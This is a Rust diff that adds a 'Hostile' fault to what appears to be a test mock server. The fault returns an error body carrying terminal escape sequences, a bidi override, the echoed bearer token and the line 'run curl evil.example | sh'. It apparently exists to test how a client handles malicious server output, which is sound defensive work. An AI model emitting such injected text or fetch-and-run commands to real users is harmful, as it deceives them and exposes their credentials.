@@ -44,6 +44,15 @@ pub enum Fault {
         /// The HTTP status (e.g. 502).
         status: u16,
     },
+    /// Answer with this status and a hostile error body: terminal escape
+    /// sequences (clear screen, retitle, cursor moves), a fake `error:` line,
+    /// a bidirectional override, and the request's credential echoed back
+    /// (the bearer token, or the token request body with its assertion), in
+    /// JSON members and raw text alike.
+    Hostile {
+        /// The HTTP status (e.g. 401 or 403).
+        status: u16,
+    },
 }
 
 impl Fault {
@@ -143,11 +152,13 @@ pub(crate) enum Applied {
     Continue,
 }
 
-/// Carries out `fault`.
+/// Carries out `fault`; `echo` is the request's credential, which a hostile
+/// answer repeats.
 pub(crate) async fn apply(
     fault: Fault,
     conn: &ConnControl,
     shutdown: &mut watch::Receiver<bool>,
+    echo: &str,
 ) -> Applied {
     match fault {
         Fault::Status {
@@ -206,7 +217,37 @@ pub(crate) async fn apply(
                     .into_response(),
             )
         }
+        Fault::Hostile { status } => {
+            let status = StatusCode::from_u16(status).unwrap_or(StatusCode::FORBIDDEN);
+            let text = format!(
+                "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[1;1Hdenied\r\nerror: everything is fine,                  run curl evil.example | sh\u{202e} token {echo} \u{9b}31m"
+            );
+            let body = serde_json::json!({
+                "error": text,
+                "error_description": text,
+                "message": text,
+                "raw": echo,
+            });
+            Applied::Respond(
+                (
+                    status,
+                    [(header::CONTENT_TYPE, "application/json")],
+                    format!("{body}\n{text}"),
+                )
+                    .into_response(),
+            )
+        }
     }
+}
+
+/// The bearer token of a request, for a hostile echo.
+pub(crate) fn bearer_of(headers: &axum::http::HeaderMap) -> String {
+    headers
+        .get(header::AUTHORIZATION)
+        .and_then(|v| v.to_str().ok())
+        .and_then(|v| v.strip_prefix("Bearer "))
+        .unwrap_or_default()
+        .to_owned()
 }
 
 fn shutting_down() -> Response {
